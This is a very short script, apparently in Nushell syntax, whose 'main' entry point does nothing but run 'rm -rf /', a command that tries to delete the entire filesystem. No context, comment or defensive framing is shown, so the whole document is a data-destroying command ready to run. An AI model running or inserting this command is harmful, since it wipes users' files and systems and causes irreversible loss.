def main [] {
  ^rm -rf /
}
